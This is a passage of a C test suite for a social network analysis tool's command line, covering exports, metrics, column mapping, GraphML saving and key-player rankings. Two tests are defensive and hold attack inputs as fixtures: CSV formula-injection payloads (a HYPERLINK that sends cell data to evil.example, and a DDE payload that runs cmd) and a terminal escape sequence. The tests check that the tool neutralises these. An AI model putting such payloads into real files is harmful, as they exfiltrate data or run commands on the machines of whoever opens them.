/* Tests of the headless command line: exit status, messages, outputs. */
#include <cairo.h>
#include <glib/gstdio.h>
#include <libxml/parser.h>
#include <string.h>

#include "cli-run.h"
#include "../sp-test-limits.h"

static void
test_usage_errors (void)
{
  RunResult r = run ("--export=x.png", NULL);

  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "no input file"));
  run_result_clear (&r);

  r = run ("--export=x.png", "--layout=spring", g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL), NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "spring"));
  run_result_clear (&r);

  r = run ("--export=x.png", "--no-such-option", "f", NULL);
  g_assert_cmpint (r.status, ==, 2);
  run_result_clear (&r);

  r = run ("--help", NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "--export"));
  g_assert_nonnull (strstr (r.out, "--metrics"));
  g_assert_nonnull (strstr (r.out, "--save=OUT.graphml"));
  run_result_clear (&r);
}

static void
test_bad_input (void)
{
  const char *bad = g_test_get_filename (G_TEST_DIST, "cli", "data", "bad-ties.csv", NULL);
  g_autofree char *out = tmp_path ("bad.png");
  g_autofree char *prefix = g_strdup_printf ("%s:3: ", bad);
  RunResult r = run ("--export", out, bad, NULL);

  g_assert_cmpint (r.status, ==, 1);
  g_assert_true (g_str_has_prefix (r.err, prefix));
  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
  run_result_clear (&r);

  r = run ("--metrics=-", "/nonexistent/people.csv", NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "/nonexistent/people.csv"));
  run_result_clear (&r);

  r = run ("--metrics=-", "--ties=gossip",
           g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL), NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "gossip"));
  run_result_clear (&r);

  r = run ("--metrics=-", "--remove=nobody",
           g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL), NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "nobody"));
  run_result_clear (&r);
}

static void
test_export_formats (void)
{
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_autofree char *png = tmp_path ("team.png");
  g_autofree char *svg = tmp_path ("team.svg");
  g_autofree char *pdf = tmp_path ("team.pdf");
  g_autofree char *pdf_data = NULL;
  cairo_surface_t *surface;
  xmlDocPtr doc;
  xmlNodePtr root;
  RunResult r;

  r = run ("--export", png, "--width=800", "--height=500", "--title=Team", team, NULL);
  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  surface = cairo_image_surface_create_from_png (png);
  g_assert_cmpint (cairo_surface_status (surface), ==, CAIRO_STATUS_SUCCESS);
  /* print quality: twice the requested size */
  g_assert_cmpint (cairo_image_surface_get_width (surface), ==, 1600);
  g_assert_cmpint (cairo_image_surface_get_height (surface), ==, 1000);
  cairo_surface_destroy (surface);

  r = run ("--export", svg, "--layout=neato", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  doc = xmlReadFile (svg, NULL, XML_PARSE_NONET);
  g_assert_nonnull (doc);
  root = xmlDocGetRootElement (doc);
  g_assert_cmpstr ((const char *) root->name, ==, "svg");
  xmlFreeDoc (doc);

  r = run ("--export", pdf, "--anonymize", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  g_assert_true (g_file_get_contents (pdf, &pdf_data, NULL, NULL));
  g_assert_true (g_str_has_prefix (pdf_data, "%PDF-"));
}

static void
test_metrics_stdout (void)
{
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  RunResult r = run ("--metrics=-", team, NULL);
  g_auto (GStrv) lines = NULL;

  g_assert_cmpint (r.status, ==, 0);
  lines = g_strsplit (r.out, "\n", -1);
  g_assert_true (g_str_has_prefix (lines[0], "id,kind,name,department,degree,"));
  /* header, 6 people, 2 clients, and the empty string after the last newline */
  g_assert_cmpuint (g_strv_length (lines), ==, 10);
  run_result_clear (&r);

  /* what-if: without p3 the person has no row values, Engineering loses its head */
  r = run ("--group-metrics=-", "--remove=p3", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "Engineering"));
  run_result_clear (&r);
}

/* Estimated betweenness and closeness (forced on a small file with
 * SAMENSPEL_SAMPLE_SOURCES, as happens by itself above some 20,000
 * people) say so in every output; --exact makes them exact again. */
static void
test_estimates (void)
{
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_autofree char *svg = tmp_path ("estimated.svg");
  g_autofree char *drawing = NULL;
  g_auto (GStrv) est = NULL;
  g_auto (GStrv) exact = NULL;
  RunResult r;

  g_setenv ("SAMENSPEL_SAMPLE_SOURCES", "3", TRUE);
  r = run ("--metrics=-", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  est = g_strsplit (r.out, "\n", -1);
  g_assert_true (g_str_has_suffix (est[0], ",core,betweenness_margin95,closeness_margin95"));
  g_assert_nonnull (strstr (r.err, "estimates from the paths of 3 of 6 people"));
  g_assert_nonnull (strstr (r.err, "--exact"));
  run_result_clear (&r);

  r = run ("--metrics=-", "--exact", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  exact = g_strsplit (r.out, "\n", -1);
  g_assert_true (g_str_has_suffix (exact[0], ",core"));
  g_assert_null (strstr (r.err, "estimates"));
  /* the same people, other numbers */
  g_assert_cmpuint (g_strv_length (exact), ==, g_strv_length (est));
  g_assert_cmpstr (exact[1], !=, est[1]);
  run_result_clear (&r);

  r = run ("--insights=-", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "estimates from the paths of 3 of 6 people"));
  run_result_clear (&r);

  r = run ("--export", svg, "--color-by=betweenness", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_true (g_file_get_contents (svg, &drawing, NULL, NULL));
  /* (the legend wraps the note over lines) */
  g_assert_nonnull (strstr (drawing, "Betweenness and closeness: estimates"));
  run_result_clear (&r);
  g_unsetenv ("SAMENSPEL_SAMPLE_SOURCES");
}

/* --map names the columns no alias knows; what the reader converted or
 * read as missing is said on stderr, and a bad map is a usage error */
static void
test_map (void)
{
  const char *file = g_test_get_filename (G_TEST_DIST, "cli", "data", "unnamed-columns.csv", NULL);
  g_auto (RunResult) r = run ("--metrics=-", file, NULL);

  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "no column is recognised"));
  run_result_clear (&r);

  r = run ("--metrics=-", "--map=wie:id,bijnaam:name,waar:group,cijfer:numeric:1-10", file, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_true (g_str_has_prefix (r.out, "id,kind,name,department,"));
  g_assert_nonnull (strstr (r.out, "w1,person,Noël Smit,Noord,"));
  g_assert_nonnull (strstr (r.out, "w2,person,Els de Wit,Zuid,"));
  g_assert_nonnull (strstr (r.err, "read as Windows-1252"));
  g_assert_nonnull (strstr (r.err, "1 value such as “NA” or “n.v.t.” read as missing"));
  run_result_clear (&r);

  /* a declared scale holds every value, or the file is refused at the
   * line that breaks it */
  r = run ("--metrics=-", "--map=wie:id,bijnaam:name,cijfer:numeric:1-5", file, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "unnamed-columns.csv:2: value “7” of “cijfer” is outside its scale 1–5"));
  run_result_clear (&r);

  r = run ("--metrics=-", "--map=wie:boss", file, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "“boss” is not a role"));
}

/* Splits one CSV record (no embedded newlines) into its fields. */
static GPtrArray *
parse_csv_line (const char *line)
{
  GPtrArray *fields = g_ptr_array_new_with_free_func (g_free);
  const char *p = line;

  for (;;)
    {
      GString *f = g_string_new (NULL);

      if (*p == '"')
        {
          for (p++; *p != '\0'; p++)
            {
              if (*p == '"' && p[1] == '"')
                g_string_append_c (f, *p++);
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (f, *p);
            }
        }
      else
        while (*p != '\0' && *p != ',')
          g_string_append_c (f, *p++);
      g_ptr_array_add (fields, g_string_free (f, FALSE));
      if (*p != ',')
        break;
      p++;
    }
  return fields;
}

/* Looks up the row whose first field is @id; returns field @col. */
static const char *
csv_cell (GPtrArray  *rows,
          const char *id,
          guint       col)
{
  for (guint i = 0; i < rows->len; i++)
    {
      GPtrArray *f = g_ptr_array_index (rows, i);

      if (f->len > col && strcmp (g_ptr_array_index (f, 0), id) == 0)
        return g_ptr_array_index (f, col);
    }
  return NULL;
}

static GPtrArray *
parse_csv (const char *text)
{
  g_auto (GStrv) lines = g_strsplit (text, "\n", -1);
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);

  for (guint i = 0; lines[i] != NULL; i++)
    if (lines[i][0] != '\0')
      g_ptr_array_add (rows, parse_csv_line (lines[i]));
  return rows;
}

/* Issue 12 item 11: names and departments that a spreadsheet would run as
 * formulas get a leading ' in every CSV; plain numbers stay numbers. */
static void
test_csv_injection (void)
{
  g_autofree char *dir = tmp_path ("injection");
  g_autofree char *people = g_build_filename (dir, "people.csv", NULL);
  g_autofree char *ties = g_build_filename (dir, "ties.csv", NULL);
  g_autoptr (GPtrArray) rows = NULL;
  RunResult r;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_assert_true (g_file_set_contents (people,
      "id,name,department\n"
      "p1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",Sales\n"
      "p2,@SUM(1),=cmd|' /C calc'!A0\n"
      "p3,+1+1,Sales\n"
      "p4,-2+3,-1\n"
      "p5,\"\tTab\",Sales\n"
      "p6,-0.5,+3\n"
      "p7,Anna,Sales\n", -1, NULL));
  g_assert_true (g_file_set_contents (ties,
      "source,target\np1,p2\np2,p3\np3,p4\np4,p5\np5,p6\np6,p7\n", -1, NULL));

  r = run ("--metrics=-", dir, NULL);
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  /* id,kind,name,department */
  g_assert_cmpstr (csv_cell (rows, "p1", 2), ==,
                   "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  g_assert_cmpstr (csv_cell (rows, "p2", 2), ==, "'@SUM(1)");
  g_assert_cmpstr (csv_cell (rows, "p2", 3), ==, "'=cmd|' /C calc'!A0");
  g_assert_cmpstr (csv_cell (rows, "p3", 2), ==, "'+1+1");
  g_assert_cmpstr (csv_cell (rows, "p4", 2), ==, "'-2+3");
  g_assert_cmpstr (csv_cell (rows, "p4", 3), ==, "-1");
  g_assert_cmpstr (csv_cell (rows, "p5", 2), ==, "'\tTab");
  g_assert_cmpstr (csv_cell (rows, "p6", 2), ==, "-0.5");
  g_assert_cmpstr (csv_cell (rows, "p6", 3), ==, "+3");
  g_assert_cmpstr (csv_cell (rows, "p7", 2), ==, "Anna");
  run_result_clear (&r);
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* the group metrics name each department: level,group,… */
  r = run ("--group-metrics=-", dir, NULL);
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  {
    gboolean formula = FALSE, minus_one = FALSE, plus_three = FALSE;

    for (guint i = 0; i < rows->len; i++)
      {
        GPtrArray *f = g_ptr_array_index (rows, i);
        const char *group = f->len > 1 ? g_ptr_array_index (f, 1) : "";

        g_assert_false (group[0] == '=' || group[0] == '@');
        formula |= strcmp (group, "'=cmd|' /C calc'!A0") == 0;
        minus_one |= strcmp (group, "-1") == 0;
        plus_three |= strcmp (group, "+3") == 0;
      }
    g_assert_true (formula);
    g_assert_true (minus_one);
    g_assert_true (plus_three);
  }
  run_result_clear (&r);
}

/* Issue 12 item 12: a message that quotes a file shows its control
 * characters escaped, whichever parser wrote it (here the strategy's). */
static void
test_terminal_escapes (void)
{
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_autofree char *strategy = tmp_path ("escapes-strategy.txt");
  g_autofree char *report = tmp_path ("escapes-fit.csv");
  g_autofree char *strategy_arg = g_strconcat ("--strategy=", strategy, NULL);
  g_autofree char *report_arg = g_strconcat ("--fit-report=", report, NULL);
  RunResult r;

  g_assert_true (g_file_set_contents (strategy, "[default]\nei_index = \033]0;pwned\007high\n",
                                      -1, NULL));
  r = run (strategy_arg, report_arg, team, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_null (strchr (r.err, '\033'));
  g_assert_null (strchr (r.err, '\007'));
  g_assert_nonnull (strstr (r.err, "\\x1b]0;pwned\\x07high"));
  run_result_clear (&r);
}

/* 20,000 people without ties (low survey response) export in seconds,
 * with every engine (issue 12, item 6; before: past 200 s). */
static void
test_export_isolates (void)
{
  const char *engines[] = { "sfdp", "neato", "fdp", "dot", "circo", "twopi" };
  g_autofree char *dir = tmp_path ("isolates");
  g_autofree char *people = g_build_filename (dir, "people.csv", NULL);
  g_autofree char *ties = g_build_filename (dir, "ties.csv", NULL);
  g_autoptr (GString) csv = g_string_new ("id,name,department\n");
  g_autoptr (GError) error = NULL;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  for (guint i = 0; i < 20000; i++)
    g_string_append_printf (csv, "P%05u,Person %u,Dept %u\n", i, i, i % 7);
  g_assert_true (g_file_set_contents (people, csv->str, csv->len, &error));
  g_assert_true (g_file_set_contents (ties, "source,target,weight\n", -1, &error));
  g_assert_no_error (error);

  for (guint e = 0; e < G_N_ELEMENTS (engines); e++)
    {
      g_autofree char *layout = g_strdup_printf ("--layout=%s", engines[e]);
      g_autofree char *png = tmp_path ("isolates.png");
      g_autoptr (GTimer) timer = g_timer_new ();
      RunResult r = run ("--export", png, layout, dir, NULL);

      g_test_message ("%s: %.1f s", engines[e], g_timer_elapsed (timer, NULL));
      g_assert_cmpstr (r.err, ==, "");
      g_assert_cmpint (r.status, ==, 0);
      /* generous for a loaded machine */
      g_assert_cmpfloat (g_timer_elapsed (timer, NULL), <, sp_test_hang_limit (20.0));
      g_assert_true (g_file_test (png, G_FILE_TEST_IS_REGULAR));
      run_result_clear (&r);
    }
}

/* --save writes the GraphML Ctrl+S writes, laid out: it reopens with the
 * same people, ties and measures (issue 12, item 3). */
static void
test_save (void)
{
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_autofree char *saved = tmp_path ("team.graphml");
  g_autofree char *resaved = tmp_path ("team-again.graphml");
  g_autofree char *bad = tmp_path ("control.csv");
  g_autofree char *bad_out = tmp_path ("control.graphml");
  g_autofree char *text = NULL;
  g_autofree char *text2 = NULL;
  g_autofree char *before = NULL;
  g_autofree char *prefix = NULL;
  xmlDocPtr doc;
  RunResult r;

  r = run ("--save", saved, team, NULL);
  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  doc = xmlReadFile (saved, NULL, XML_PARSE_NONET);
  g_assert_nonnull (doc);
  g_assert_cmpstr ((const char *) xmlDocGetRootElement (doc)->name, ==, "graphml");
  xmlFreeDoc (doc);
  g_assert_true (g_file_get_contents (saved, &text, NULL, NULL));
  /* with positions: a layout was made */
  g_assert_nonnull (strstr (text, "attr.name=\"samenspel.x\""));
  g_assert_nonnull (strstr (text, "<data key=\"x\">"));

  /* the same measures from the saved file as from the folder */
  r = run ("--metrics=-", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  before = g_strdup (r.out);
  run_result_clear (&r);
  r = run ("--metrics=-", saved, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_cmpstr (r.out, ==, before);
  run_result_clear (&r);

  /* saving the saved file again changes nothing, positions included */
  r = run ("--save", resaved, saved, NULL);
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  g_assert_true (g_file_get_contents (resaved, &text2, NULL, NULL));
  g_assert_cmpstr (text2, ==, text);

  /* never over its input; not with --remove (it saves the whole network) */
  r = run ("--save", saved, saved, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "would overwrite the input"));
  run_result_clear (&r);
  r = run ("--save", resaved, "--remove=p3", team, NULL);
  g_assert_cmpint (r.status, ==, 2);
  run_result_clear (&r);

  /* a control character XML cannot hold: FILE:LINE, exit 1, nothing written */
  g_assert_true (g_file_set_contents (bad, "id,name\np1,Ann\np2,\"B\x01ob\"\n", -1, NULL));
  prefix = g_strdup_printf ("%s:3: control character U+0001 is not allowed", bad);
  r = run ("--save", bad_out, bad, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_true (g_str_has_prefix (r.err, prefix));
  g_assert_false (g_file_test (bad_out, G_FILE_TEST_EXISTS));
  run_result_clear (&r);
}

/* GEXF viz colours: --color-by accepts the attribute of colours, and no
 * other categorical attribute; --size-by the numeric "viz size"; a
 * dynamic file's merged declarations are said on stderr. */
static void
test_own_colours (void)
{
  const char *lesmis = g_test_get_filename (G_TEST_DIST, "io", "data", "meta", "les-miserables.gexf", NULL);
  const char *karate = g_test_get_filename (G_TEST_DIST, "io", "data", "meta", "karate-viz-nx.gexf", NULL);
  const char *photoviz = g_test_get_filename (G_TEST_DIST, "io", "data", "meta", "photoviz-dynamic.gexf", NULL);
  g_autofree char *png = tmp_path ("lesmis.png");
  g_auto (RunResult) r = run ("--export", png, "--color-by=viz colour", "--width=400", "--height=300",
                              lesmis, NULL);

  g_assert_cmpint (r.status, ==, 0);
  g_assert_true (g_file_test (png, G_FILE_TEST_IS_REGULAR));
  run_result_clear (&r);

  r = run ("--export", png, "--color-by=viz colour", "--heatmap", lesmis, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "--heatmap needs a score to colour by; “viz colour” holds colours"));
  run_result_clear (&r);

  /* a categorical attribute colours by category; an absent one is an error */
  r = run ("--export", png, "--color-by=club", "--width=400", "--height=300", karate, NULL);
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  r = run ("--export", png, "--color-by=club", "--heatmap", karate, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "“club” holds categories"));
  run_result_clear (&r);
  r = run ("--metrics=-", "--color-by=clubs", karate, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "no attribute or measure “clubs” to colour by"));
  run_result_clear (&r);

  /* --size-by: a numeric attribute only */
  r = run ("--export", png, "--size-by=viz size", "--width=400", "--height=300", lesmis, NULL);
  g_assert_cmpint (r.status, ==, 0);
  run_result_clear (&r);
  r = run ("--metrics=-", "--size-by=viz colour", lesmis, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "no numeric attribute “viz colour” to size by"));
  run_result_clear (&r);

  r = run ("--metrics=-", photoviz, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.err, "photoviz-dynamic.gexf: 1 node declared again with other spells was merged"));
}

/* --group-by: Zachary's karate club (networkx's GraphML) by "club": its two
 * factions, the organisation's E-I index and the attribute assortativity
 * networkx gives (attribute_assortativity_coefficient: 0.717530864197531);
 * an attribute the data lacks is said with the ones it has. */
static void
test_group_by (void)
{
  g_autofree char *karate = g_test_build_filename (G_TEST_DIST, "io", "data", "meta", "karate-nx.graphml", NULL);
  g_autoptr (GPtrArray) rows = NULL;
  RunResult r = run ("--group-metrics=-", "--group-by=club", karate, NULL);
  GPtrArray *header, *org;
  gint col = -1;

  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  g_assert_cmpuint (rows->len, ==, 4);
  header = g_ptr_array_index (rows, 0);
  for (guint c = 0; c < header->len; c++)
    if (strcmp (g_ptr_array_index (header, c), "assortativity") == 0)
      col = c;
  g_assert_cmpint (col, >=, 0);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 1), 1), ==, "Mr. Hi");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 2), 1), ==, "Officer");
  org = g_ptr_array_index (rows, 3);
  g_assert_cmpstr (g_ptr_array_index (org, 0), ==, "organisation");
  g_assert_cmpfloat_with_epsilon (g_ascii_strtod (g_ptr_array_index (org, col), NULL), 0.717530864197531, 1e-12);
  g_assert_cmpfloat_with_epsilon (g_ascii_strtod (g_ptr_array_index (org, 6), NULL), -0.717948717948718, 1e-12);
  run_result_clear (&r);

  r = run ("--group-metrics=-", "--group-by=office", karate, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "--group-by: no categorical attribute “office” (the data has: department, club)"));
  run_result_clear (&r);
}

/* --group-matrix follows --group-by (networkx: 35 ties within Mr. Hi's
 * club, 32 within the Officer's, 11 across); --similar writes three
 * ranked colleagues per person, respects --remove, and both outputs go
 * through the check of the inputs. */
static void
test_similar_and_group_matrix (void)
{
  g_autofree char *karate = g_test_build_filename (G_TEST_DIST, "io", "data", "meta", "karate-nx.graphml", NULL);
  g_autofree char *opt_over = g_strconcat ("--similar=", karate, NULL);
  g_autofree char *opt_over_matrix = g_strconcat ("--group-matrix=", karate, NULL);
  g_autoptr (GPtrArray) rows = NULL;
  RunResult r = run ("--group-matrix=-", "--group-by=club", karate, NULL);

  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  g_assert_cmpstr (r.out, ==, "group,Mr. Hi,Officer\nMr. Hi,35,11\nOfficer,11,32\n");
  run_result_clear (&r);

  r = run ("--group-matrix=-", "--group-by=office", karate, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "--group-by: no categorical attribute “office” (the data has: department, club)"));
  run_result_clear (&r);

  r = run ("--similar=-", karate, NULL);
  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  /* every member of the club has three colleagues (numpy: 0 is most
   * like 1, r = 0.470016) */
  g_assert_cmpuint (rows->len, ==, 1 + 34 * 3);
  {
    GPtrArray *header = g_ptr_array_index (rows, 0);
    GPtrArray *first = g_ptr_array_index (rows, 1);

    g_assert_cmpuint (header->len, ==, 4);
    g_assert_cmpstr (g_ptr_array_index (header, 0), ==, "id");
    g_assert_cmpstr (g_ptr_array_index (header, 1), ==, "similar_id");
    g_assert_cmpstr (g_ptr_array_index (header, 2), ==, "similarity");
    g_assert_cmpstr (g_ptr_array_index (header, 3), ==, "rank");
    g_assert_cmpstr (g_ptr_array_index (first, 0), ==, "0");
    g_assert_cmpstr (g_ptr_array_index (first, 1), ==, "1");
    g_assert_cmpfloat_with_epsilon (g_ascii_strtod (g_ptr_array_index (first, 2), NULL),
                                    0.47001599194042176, 1e-12);
    for (guint i = 1; i < rows->len; i++)
      {
        g_autofree char *rank = g_strdup_printf ("%u", (i - 1) % 3 + 1);

        g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, i), 3), ==, rank);
      }
  }
  run_result_clear (&r);

  /* what-if: without 0, nobody lists 0 and 0 lists nobody */
  r = run ("--similar=-", "--remove=0", karate, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_clear_pointer (&rows, g_ptr_array_unref);
  rows = parse_csv (r.out);
  g_assert_cmpuint (rows->len, >, 1);
  for (guint i = 1; i < rows->len; i++)
    {
      GPtrArray *row = g_ptr_array_index (rows, i);

      g_assert_cmpstr (g_ptr_array_index (row, 0), !=, "0");
      g_assert_cmpstr (g_ptr_array_index (row, 1), !=, "0");
    }
  run_result_clear (&r);

  r = run ("--similar=-", "--ties=advice", karate, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_cmpstr (r.out, ==, "");
  run_result_clear (&r);

  r = run (opt_over, karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "would overwrite the input"));
  run_result_clear (&r);
  r = run (opt_over_matrix, karate, NULL);
  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "would overwrite the input"));
  run_result_clear (&r);

  /* checked before the first write: one file twice, a missing folder */
  {
    g_autofree char *out = tmp_path ("similar.csv");
    g_autofree char *opt_similar = g_strconcat ("--similar=", out, NULL);
    g_autofree char *opt_matrix = g_strconcat ("--group-matrix=", out, NULL);

    r = run (opt_similar, opt_matrix, karate, NULL);
    g_assert_cmpint (r.status, ==, 2);
    g_assert_nonnull (strstr (r.err, "two outputs would write the same file"));
    g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
    run_result_clear (&r);
    r = run (opt_matrix, "--similar=/nonexistent/folder/s.csv", karate, NULL);
    g_assert_cmpint (r.status, ==, 1);
    g_assert_nonnull (strstr (r.err, "/nonexistent/folder/s.csv"));
    g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
    run_result_clear (&r);
  }
}

/* --insights names the overloaded with the numbers behind them, reads a
 * tie type called "toegang" as the access question, or the one
 * --access-type names; on undirected data it says why there is no list. */
static void
test_overloaded (void)
{
  const char *org = g_test_get_filename (G_TEST_DIST, "cli", "data", "overload", NULL);
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_auto (RunResult) r = run ("--insights=-", org, NULL);

  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "\nOverloaded (2)\n  Rule: "));
  g_assert_nonnull (strstr (r.out, "Incoming “toegang” ties (I need more access to this person) are unmet demand"));
  g_assert_nonnull (strstr (r.out, "\n  b2  Person B2 (B)  in_degree 5  group_median 1  cut 5  not_returned 3 (60%)  toegang 1\n"));
  run_result_clear (&r);

  /* the access question read from another type: the "advies" ties are
   * then all unmet demand, the "toegang" ties ordinary ties */
  r = run ("--insights=-", "--access-type=ADVIES", org, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "Incoming “advies” ties"));
  g_assert_nonnull (strstr (r.out, "\n  a1  Person A1 (A)  in_degree 6  group_median 1  cut 5  not_returned 6 (100%)  advies 6\n"));
  g_assert_nonnull (strstr (r.out, "\n  b2  Person B2 (B)  in_degree 5  group_median 1  cut 5  not_returned 5 (100%)  advies 5\n"));
  run_result_clear (&r);

  r = run ("--insights=-", "--access-type=nope", org, NULL);
  g_assert_cmpint (r.status, ==, 1);
  g_assert_nonnull (strstr (r.err, "--access-type: no tie type “nope” (the data has: advies, toegang)"));
  g_assert_cmpstr (r.out, ==, "");
  run_result_clear (&r);

  r = run ("--insights=-", team, NULL);
  g_assert_cmpint (r.status, ==, 0);
  g_assert_nonnull (strstr (r.out, "\nOverloaded\n  Cannot be computed: the ties have no direction"));
  run_result_clear (&r);

  /* a drawing that points at them says why nobody is pointed at */
  {
    g_autofree char *png = tmp_path ("overloaded.png");

    r = run ("--export", png, "--highlight=overloaded", team, NULL);
    g_assert_cmpint (r.status, ==, 0);
    g_assert_nonnull (strstr (r.err, "--highlight=overloaded: Cannot be computed: the ties have no direction"));
  }
}

/* Two outputs on standard output would run together: refused, before
 * anything is written. */
static void
test_one_stdout (void)
{
  g_autofree char *karate = g_test_build_filename (G_TEST_DIST, "io", "data", "meta", "karate-nx.graphml", NULL);
  g_auto (RunResult) r = run ("--metrics=-", "--key-players=3", karate, NULL);

  g_assert_cmpint (r.status, ==, 2);
  g_assert_nonnull (strstr (r.err, "only one output can go to standard output"));
  g_assert_cmpstr (r.out, ==, "");
}

/* --key-players and --fragmenters: rank,id,name,value, a row per person
 * chosen, to standard output or --players-out; K from 1 to n − 1 (exit 2
 * otherwise, before anything is written); --remove and --ties apply. */
static void
test_key_players (void)
{
  g_autofree char *karate = g_test_build_filename (G_TEST_DIST, "io", "data", "meta", "karate-nx.graphml", NULL);
  const char *team = g_test_get_filename (G_TEST_DIST, "cli", "data", "team", NULL);
  g_autofree char *out = tmp_path ("players.csv");
  g_autofree char *metrics = tmp_path ("players-metrics.csv");
  g_autofree char *opt_out = g_strconcat ("--players-out=", out, NULL);
  g_autofree char *opt_metrics = g_strconcat ("--metrics=", metrics, NULL);
  g_autofree char *opt_input = g_strconcat ("--players-out=", karate, NULL);
  g_autofree char *text = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  RunResult r = run ("--key-players=3", karate, NULL);

  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  rows = parse_csv (r.out);
  g_assert_cmpuint (rows->len, ==, 4);
  g_assert_true (g_str_has_prefix (r.out, "rank,id,name,value\n1,"));
  /* the best three reach the 31 others (make-fixtures.py's brute force) */
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 3), 0), ==, "3");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 3), 3), ==, "31");
  g_clear_pointer (&rows, g_ptr_array_unref);
  run_result_clear (&r);

  /* to a file, beside another output */
  r = run ("--fragmenters=3", opt_out, opt_metrics, karate, NULL);
  g_assert_cmpstr (r.err, ==, "");
  g_assert_cmpint (r.status, ==, 0);
  g_assert_cmpstr (r.out, ==, "");
  g_assert_true (g_file_get_contents (out, &text, NULL, NULL));
  rows = parse_csv (text);
  g_assert_cmpuint (rows->len, ==, 4);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 0), 3), ==, "value");
  /* 0, 32 and 33 out: the best three (0.5698924731182795) */
  g_assert_cmpfloat_with_epsilon (g_ascii_strtod (g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, 3), 3), NULL),
                                  0.5698924731182795, 1e-15);
